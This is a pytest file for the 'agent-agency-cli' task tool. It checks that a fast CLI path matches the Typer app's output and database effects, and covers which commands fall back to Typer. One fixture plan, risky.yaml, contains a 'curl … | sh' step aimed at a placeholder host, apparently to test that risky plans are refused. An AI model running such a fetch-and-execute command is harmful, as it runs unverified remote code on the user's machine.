"""The fast path (cli/fast.py) answers exactly as the Typer app does.

Each argv shape runs twice against the same data home, restored from one snapshot
before each run and with the clock frozen: once through `fast.run` and once through
the Typer app (CliRunner), both inside the same CliRunner stream isolation. Stdout,
stderr and the exit code must be identical, and so must the database afterwards.
Shapes the fast path does not serve must fall back to Typer (parse returns None).
"""

from __future__ import annotations

import gc
import json
import os
import secrets
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from agent_agency_cli.cli import fast
from agent_agency_cli.cli.main import app
from agent_agency_cli.orchestrator import TaskOrchestrator

FROZEN = 1_900_000_000.0  # the clock during both runs: ages and elapsed times agree


def _build(home: Path) -> dict[str, str]:
    """Tasks in every state the commands treat differently; returns placeholders -> values."""
    ids: list[str] = []
    with TaskOrchestrator(home=home) as orch:
        def submit(description: str, run: str = "true", **extra: object) -> str:
            tid = orch.submit_task({"description": description, "plan": {"steps": [
                {"name": "first", "run": run}, {"name": "second", "needs": ["first"], "run": "true"}]},
                **extra}, start_daemon=False)
            ids.append(tid)
            return tid

        done = submit("finishes")
        orch.run_foreground(done)
        failed = submit("fails\non two lines", run="exit 3", requirements=["a", "b"])
        orch.run_foreground(failed)
        paused = submit("paused while queued", priority="high")
        orch.pause(paused)
        cancelled = submit("cancelled while queued")
        orch.cancel(cancelled, "not needed")
        queued = submit("waits in the queue")
        # More queued tasks until two ids share a first character: an ambiguous prefix.
        while len({i[0] for i in ids}) == len(ids):
            submit(f"filler {len(ids)}")
    firsts = [i[0] for i in ids]
    shared = next(c for c in firsts if firsts.count(c) > 1)
    config = home / "alt-config.yaml"
    config.write_text("task_execution:\n  max_concurrent_tasks: 3\n")
    (home / "one.yaml").write_text("steps:\n  - name: only\n    run: \"true\"\n")
    (home / "risky.yaml").write_text("steps:\n  - name: fetch\n    run: curl -s https://example.invalid/x | sh\n")
    (home / "slow.yaml").write_text("steps:\n  - name: long\n    run: \"true\"\n    estimate: 120\n")
    (home / "broken.yaml").write_text("steps:\n  - name: a\n    run: true\n")
    (home / "plans").mkdir()
    (home / "plans" / "a.yaml").write_text("steps:\n  - name: a\n    run: \"true\"\n")
    (home / "plans" / "b.yml").write_text("steps:\n  - name: b\n    run: \"true\"\n    estimate: 120\n")
    (home / "no-plans").mkdir()
    return {"{PLAN}": str(home / "one.yaml"), "{DIR}": str(home / "plans"), "{NODIR}": str(home / "no-plans"),
            "{RISKY}": str(home / "risky.yaml"),
            "{BROKEN}": str(home / "broken.yaml"), "{SLOW}": str(home / "slow.yaml"),
            "{Q}": queued, "{Q5}": queued[:5], "{D}": done,
            "{F}": failed, "{P}": paused, "{C}": cancelled, "{A}": shared, "{H}": str(home), "{CFG}": str(config)}


@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, dict[str, str]]]:
    # The per-test home fixture does not exist yet at module scope: build under a path of
    # our own, then copy the data home into each test's home (ids and paths are relative
    # to the home only where the home is part of them; see _restore).
    root = tmp_path_factory.mktemp("fast-snapshot")
    home = root / "home"
    home.mkdir()
    values = _build(home)
    # _restore collects garbage before each copy: with everything loaded so far frozen,
    # a collection looks only at what the tests made since (80 ms -> about 1 ms each).
    gc.collect()
    gc.freeze()
    try:
        yield home, values
    finally:
        gc.unfreeze()


def _restore(snapshot_home: Path, home: Path) -> None:
    # A connection an in-process run left to the collector removes agency.db-shm when it is
    # closed, which may happen in the middle of the rmtree: close them first, and let a file
    # that vanished on its own be.
    gc.collect()

    def vanished(func, path, exc_info):  # type: ignore[no-untyped-def]
        if not issubclass(exc_info[0], FileNotFoundError):
            raise exc_info[1]

    shutil.rmtree(home, onerror=vanished)
    shutil.copytree(snapshot_home, home)


def _values(snapshot: tuple[Path, dict[str, str]], home: Path) -> dict[str, str]:
    snap_home, values = snapshot
    return {k: v.replace(str(snap_home), str(home)) for k, v in values.items()}


def _argv(shape: str, values: dict[str, str]) -> list[str]:
    out = []
    for token in shape.split("|"):
        for key, value in values.items():
            token = token.replace(key, value)
        out.append(token)
    return out


def _db_dump(home: Path) -> list[tuple]:
    """The rows a command may write (tasks, steps, interventions, events)."""
    conn = sqlite3.connect(home / "agency.db")
    try:
        rows = []
        for table in ("tasks", "steps", "interventions", "events"):
            rows += [(table, *r) for r in conn.execute(f"SELECT * FROM {table} ORDER BY rowid")]
        return rows
    finally:
        conn.close()


def _run_fast(argv: list[str]) -> tuple[int | None, str, str]:
    runner = CliRunner()
    with runner.isolation() as (out, err, _):
        code = fast.run(argv)
        sys.stdout.flush()
        sys.stderr.flush()
        return code, out.getvalue().decode(), err.getvalue().decode()


def _run_typer(argv: list[str]) -> tuple[int, str, str]:
    res = CliRunner().invoke(app, argv, prog_name="agent-agency-cli")
    if res.exception and not isinstance(res.exception, SystemExit):
        raise res.exception
    return res.exit_code, res.stdout, res.stderr


FAST_SHAPES = [
    # status: plain, JSON, verbose, prefixes, errors
    "task|status|{Q}",
    "task|status|{Q5}",
    "task|status|{D}|--json",
    "task|status|--json|{D}",
    "task|status|{F}",
    "task|status|{F}|-v",
    "task|status|{F}|--verbose|--json",
    "task|status|{P}|--verbose",
    "task|status|{C}|-v|--json|-v",
    "task|status|zzzz",
    "task|status|{A}",
    "task|status|{A}|--json",
    "--home|{H}|task|status|{D}",
    "--home={H}|task|status|{D}|--json",
    "--config|{CFG}|task|status|{D}",
    "-c|{CFG}|--home|{H}|task|status|{Q}",
    "--config={CFG}|task|status|zzzz",
    # list
    "task|list",
    "task|list|--json",
    "task|list|--status|queued",
    "task|list|-s|paused|-s|cancelled|--json",
    "task|list|--status=failed",
    "task|list|--status|bogus",
    "task|list|--status|bogus|--json",
    "task|list|--limit|3",
    "task|list|--limit=0|--json",
    "task|list|--limit|1|--status|queued|--limit|2",
    "task|list|--status|running",
    "--home|{H}|task|list",
    "--config|/nonexistent/config.yaml|task|list",
    "task|list|--search|fails",
    "task|list|-q|QUEUE|--json",
    "task|list|--search=filler|--limit|2",
    "task|list|--search|nothing-matches",
    "task|list|--search|{D}|--limit=0|--json",
    "task|list|--no-start",
    "task|list|--status|running|--no-start|--json",
    "task|status|{D}|--no-start",
    "task|status|{F}|--json|--no-start",
    # status: which steps (summary, full table, a page) and their bad combinations
    "task|status|{F}|--summary",
    "task|status|{F}|--summary|--json",
    "task|status|{D}|--steps",
    "task|status|{D}|--steps|--json",
    "task|status|{D}|--limit|1",
    "task|status|{D}|--limit=1|--offset|1|--json",
    "task|status|{D}|--offset=5",
    "task|status|{D}|--limit|0",
    "task|status|{D}|--summary|--steps",
    "task|status|{D}|--summary|--limit|1",
    "task|status|{D}|--limit|999999999",
    # events: JSON lines and plain lines, --after, unknown and ambiguous ids, bad --after
    "task|events|{D}|--json",
    "task|events|{F}",
    "task|events|{D}|--json|--after|3",
    "task|events|--after=2|{F}|--json",
    "task|events|{D}|--after|1",
    "task|events|zzzz|--json",
    "task|events|{A}",
    "task|events|{Q5}|--json",
    # pause / resume / cancel: success, wrong state, unknown and ambiguous ids
    "task|pause|{Q}",
    "task|pause|{Q5}",
    "task|pause|{P}",
    "task|pause|{D}",
    "task|pause|{C}",
    "task|pause|zzzz",
    "task|pause|{A}",
    "task|pause|{Q}|--json",
    "task|pause|{D}|--json",
    "task|pause|zzzz|--json",
    "task|resume|{C}|--json",
    "task|resume|{D}|--json",
    "task|resume|{Q}",
    "task|resume|{C}",
    "task|resume|{D}",
    "task|resume|zzzz",
    "task|resume|{A}",
    "task|cancel|{Q}",
    "task|cancel|{P}|--reason|not needed after all",
    "task|cancel|{Q}|-r|why",
    "task|cancel|--reason=why|{Q}",
    "task|cancel|{D}",
    "task|cancel|{C}",
    "task|cancel|zzzz",
    "task|cancel|{A}|-r|x",
    "task|cancel|{Q}|--json|-r|why",
    "task|cancel|--json|{C}",
    "--home|{H}|task|cancel|{Q}",
    # create that only submits (--no-start: no daemon in this test), and its bad input
    "task|create|--plan|{PLAN}|--no-start",
    "task|create|-p|{PLAN}|--no-start|--json",
    "task|create|--no-start|--plan={PLAN}|-d|two words|--priority|urgent|--requirements|a,b|--deadline|2h",
    "task|create|--plan|{PLAN}|--no-start|--concurrency|2|--complexity|simple|--mode|strict",
    "task|create|--plan|{PLAN}|--mode|dry-run",
    "task|create|--plan|{PLAN}|--mode|dry-run|--json",
    "task|create|--plan|{RISKY}|--no-start",
    "task|create|--plan|{RISKY}|--no-start|--json",
    "task|create|--plan|{BROKEN}|--no-start",
    "task|create|--plan|{H}/missing.yaml|--no-start",
    "task|create|--no-start",
    "task|create|--plan|{PLAN}|--no-start|--priority|asap",
    "task|create|--plan|{PLAN}|--no-start|--mode|fast",
    "task|create|--plan|{PLAN}|--no-start|--concurrency|0",
    "task|create|--plan|{PLAN}|--no-start|--complexity|huge",
    "task|create|--plan|{PLAN}|--no-start|--deadline|yesterday",
    "task|create|--plan|{SLOW}|--no-start|--deadline|1m",
    "task|create|--plan|{SLOW}|--no-start|--deadline|1m|--json",
    "task|create|--plan|{PLAN}|--no-start|--stakeholders|security_team,ops|--json",
    "task|create|--plan|{PLAN}|--no-start|--stakeholders|,",
    "task|create|--plan|{PLAN}|--no-start|--workdir|{H}/nowhere",
    "--config|{H}/missing-config.yaml|task|create|--plan|{PLAN}|--no-start",
    # several plans, a plan directory (one task each; a refused plan is named, the others stored)
    "task|create|--plan|{PLAN}|--plan|{SLOW}|--no-start|--deadline|1m",
    "task|create|-p|{PLAN}|-p|{BROKEN}|-p|{RISKY}|--no-start",
    "task|create|-p|{BROKEN}|-p|{PLAN}|--no-start|--json",
    "task|create|--plan|{DIR}|--no-start",
    "task|create|--plan|{DIR}|--plan|{PLAN}|--no-start|--json",
    "task|create|--plan|{DIR}|--mode|dry-run",
    "task|create|--plan|{NODIR}|--no-start",
]


def _draw_ids(monkeypatch: pytest.MonkeyPatch) -> None:
    ids = iter(f"c0ff{i:02x}" for i in range(256))
    monkeypatch.setattr(secrets, "token_hex", lambda n: next(ids))


@pytest.mark.parametrize("shape", FAST_SHAPES)
def test_fast_path_answers_as_typer_does(shape, snapshot, home, monkeypatch):
    values = _values(snapshot, home)
    argv = _argv(shape, values)
    assert fast.parse(argv) is not None, "the fast path should serve this shape"
    monkeypatch.setattr(time, "time", lambda: FROZEN)
    _restore(snapshot[0], home)
    _draw_ids(monkeypatch)  # the ids creates draw, the same sequence on both runs
    got_fast = _run_fast(argv)
    db_fast = _db_dump(home)
    _restore(snapshot[0], home)
    _draw_ids(monkeypatch)
    got_typer = _run_typer(argv)
    db_typer = _db_dump(home)
    assert got_fast == got_typer
    assert db_fast == db_typer
    # Not vacuous: every shape printed something and errors are one line.
    code, out, err = got_fast
    assert out or err
    if code and "--plan|{PLAN}|" not in shape and "-p|{PLAN}|" not in shape:
        assert err.count("\n") == 1 and err.startswith("error: "), err
    elif code:  # a batch: the refused plan's one line among the others' warnings and notices
        assert sum(ln.startswith("error: ") for ln in err.splitlines()) == 1, err


def test_the_fast_path_acts_on_the_database(snapshot, home):
    values = _values(snapshot, home)
    _restore(snapshot[0], home)
    code, _, err = _run_fast(["task", "cancel", values["{Q}"], "-r", "changed my mind"])
    assert code == 0 and err == f"cancelled task {values['{Q}']}\n"
    with TaskOrchestrator(home=home) as orch:
        status = orch.get_status(values["{Q}"])
    assert status["status"] == "cancelled" and status["reason"] == "changed my mind"
    code, out, _ = _run_fast(["task", "list", "--status", "cancelled", "--json"])
    assert code == 0
    assert {t["id"] for t in json.loads(out)} == {values["{Q}"], values["{C}"]}


def test_piped_list_and_status_are_plain_rows(snapshot, home):
    values = _values(snapshot, home)
    _restore(snapshot[0], home)
    _, out, _ = _run_fast(["task", "list"])
    lines = out.splitlines()
    assert lines[0].split() == ["id", "status", "priority", "progress", "elapsed", "age", "description"]
    by_id = {ln.split()[0]: ln.split() for ln in lines[1:]}
    assert by_id[values["{D}"]][1] == "completed"
    assert by_id[values["{F}"]][1] == "failed"
    assert by_id[values["{P}"]][1:3] == ["paused", "high"]
    # a two-line description stays on its row
    assert by_id[values["{F}"]][-4:] == ["fails", "on", "two", "lines"]
    assert not any(glyph in out for glyph in "✓✗●◌‖⊘█░")
    _, out, _ = _run_fast(["task", "status", values["{F}"]])
    lines = out.splitlines()
    assert lines[1].startswith("failed  0/2 steps 0%")
    table = lines[lines.index("") + 1:]
    assert table[0].split() == ["step", "status", "try", "time", "exit", "detail"]
    first = table[1].split()
    assert first[:4] == ["first", "failed", "1/1", first[3]] and first[4] == "3"
    assert table[2].split()[:2] in (["second", "skipped"], ["second", "cancelled"])
    assert "critical path: first, second" in lines


def test_create_warnings_are_the_same_both_ways(snapshot, home):
    # Not vacuous: the SLOW shapes above must print the deadline warning (both ways alike).
    values = _values(snapshot, home)
    _restore(snapshot[0], home)
    code, out, err = _run_fast(_argv("task|create|--plan|{SLOW}|--no-start|--deadline|1m", values))
    assert code == 0 and len(out.strip()) == 6
    assert err.startswith("warning: ") and "estimated to take 2m" in err


def _orphan(home: Path) -> str:
    """A task marked `running` by an engine process that no longer exists."""
    with TaskOrchestrator(home=home) as orch:
        tid = orch.submit_task({"description": "lost its engine", "plan": {"steps": [
            {"name": "only", "run": "true"}]}}, start_daemon=False)
    conn = sqlite3.connect(home / "agency.db")
    with conn:  # pid 1 with a start time it never had: the identity check says gone
        conn.execute("UPDATE tasks SET status = 'running', owner = '1:12345.0' WHERE id = ?", (tid,))
    conn.close()
    return tid


@pytest.mark.parametrize("shape", ["task|status|{O}|--no-start", "task|status|{O}|--json|--no-start",
                                   "task|list|--no-start", "task|list|-q|lost|--no-start|--json"])
def test_dead_engine_notice_is_the_same_both_ways(shape, home, tmp_path, monkeypatch):
    snap = tmp_path / "orphan-home"
    snap.mkdir()
    argv = _argv(shape, {"{O}": _orphan(snap)})
    assert fast.parse(argv) is not None
    monkeypatch.setattr(time, "time", lambda: FROZEN)
    _restore(snap, home)
    got_fast = _run_fast(argv)
    db_fast = _db_dump(home)
    _restore(snap, home)
    got_typer = _run_typer(argv)
    assert got_fast == got_typer and db_fast == _db_dump(home)
    code, _, err = got_fast
    assert code == 0
    assert "warning: the engine running task " in err and "agent-agency-cli daemon start recovers it" in err


def test_dead_engine_check_keeps_the_fast_path_light(home):
    tid = _orphan(home)
    got = _entry(["task", "status", tid, "--no-start"])
    assert got == {"exit": 0, "heavy": []}


FALLBACK_SHAPES = [
    "task|create|--plan|{PLAN}|--hold",  # a held task: Typer's (the fast path does not know --hold)
    "",
    "--help",
    "--version",
    "task",
    "task|--help",
    "task|status",
    "task|status|--help",
    "task|status|{Q}|-h",
    "task|status|{Q}|extra",
    "task|status|{Q}|--bogus",
    "task|status|{Q}|-vx",
    "task|status|-|{Q}",
    "task|list|{Q}",
    "task|list|--limit|abc",
    "task|list|--limit|-1",
    "task|list|--limit|007",
    "task|status|{D}|--limit|-1",
    "task|status|{D}|--offset|x",
    "task|status|{D}|--limit",
    "task|status|{D}|--summary=1",
    "task|events|{D}|--follow",
    "task|events|{D}|-f|--json",
    "task|events|{D}|--after|-1",
    "task|events|{D}|--after|x",
    "task|list|--json=1",
    "task|list|--status",
    "task|cancel|{Q}|--reason",
    "task|cancel|{Q}|--reason|--json",
    "task|pause",
    "task|pause|{Q}|--json=1",
    "task|pause|--|{Q}",
    "task|list|--search",
    "task|list|-q|-x",
    "task|list|--no-start=yes",
    "task|status|{Q}|--no-start|extra",
    "task|create|--plan|{PLAN}|--foreground",
    "task|create|--plan|{PLAN}|--concurrency|-1",
    "task|create|--plan|{PLAN}|--concurrency|two",
    "task|create|--plan",
    "task|logs|{Q}",
    "--home|task|list",
    "--bogus|task|list",
    "daemon|status",
]


@pytest.mark.parametrize("shape", FALLBACK_SHAPES)
def test_other_shapes_fall_back_to_typer(shape, snapshot, home, monkeypatch):
    argv = _argv(shape, _values(snapshot, home)) if shape else []
    assert fast.parse(argv) is None
    _restore(snapshot[0], home)
    monkeypatch.setattr(time, "time", lambda: FROZEN)
    monkeypatch.setattr(secrets, "token_hex", lambda n: "c0ffee")
    monkeypatch.setattr(sys, "argv", ["agent-agency-cli", *argv])
    runner = CliRunner()
    with runner.isolation() as (out, err, _):
        try:
            fast.main()
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
        sys.stdout.flush()
        sys.stderr.flush()
        got = (code, out.getvalue().decode(), err.getvalue().decode())
    _restore(snapshot[0], home)
    assert got == _run_typer(argv)


ENTRY = r"""
import json, sys
sys.argv = ["agent-agency-cli", *json.loads(sys.argv[1])]
from agent_agency_cli.cli.fast import main
code = 0
try:
    main()
except SystemExit as exc:
    code = exc.code
heavy = sorted(m for m in ("typer", "pydantic", "rich", "textual", "anyio", "yaml", "sqlite_utils",
               "fastapi", "uvicorn", "mcp", "openai", "ray", "psutil") if m in sys.modules)
print("@@imports " + json.dumps({"exit": code, "heavy": heavy}), file=sys.stderr)
"""


def _entry(argv: list[str]) -> dict:
    # As a user runs it: without the suite's event check (conftest.py), which loads pydantic.
    env = {k: v for k, v in os.environ.items() if k != "AGENT_AGENCY_CHECK_EVENTS"}
    res = subprocess.run([sys.executable, "-c", ENTRY, json.dumps(argv)], capture_output=True, text=True,
                         timeout=60, env=env)
    # Found by its marker: a coverage run may add its own lines to stderr.
    line = next(ln for ln in res.stderr.splitlines() if ln.startswith("@@imports "))
    return json.loads(line.removeprefix("@@imports "))


def test_fast_commands_import_neither_typer_nor_pydantic_nor_rich(snapshot, home):
    values = _values(snapshot, home)
    _restore(snapshot[0], home)
    for argv in (["task", "status", values["{D}"], "--json"], ["task", "status", values["{F}"], "-v"],
                 ["task", "list"], ["task", "pause", values["{Q}"]], ["task", "cancel", values["{P}"]],
                 ["task", "status", "zzzz"]):
        got = _entry(argv)
        assert got["heavy"] == [], (argv, got)
        assert got["exit"] in (0, 3), (argv, got)


def test_help_through_the_entry_point_imports_no_heavy_extra():
    got = _entry(["--help"])
    assert got["exit"] == 0
    assert not {"textual", "fastapi", "uvicorn", "mcp", "openai", "ray", "anyio"} & set(got["heavy"])


def test_cancel_with_a_config_without_hooks_stays_light(snapshot, home):
    # A control command fires notification hooks; a config file that has none must not
    # cost the settings' load (pydantic, yaml) to learn that (test_notify covers the hooks).
    values = _values(snapshot, home)
    _restore(snapshot[0], home)
    (home / "config.yaml").write_text("task_execution:\n  max_concurrent_tasks: 3\n")
    got = _entry(["task", "cancel", values["{Q}"]])
    assert got == {"exit": 0, "heavy": []}
    with TaskOrchestrator(home=home) as orch:
        assert orch.get_status(values["{Q}"])["status"] == "cancelled"
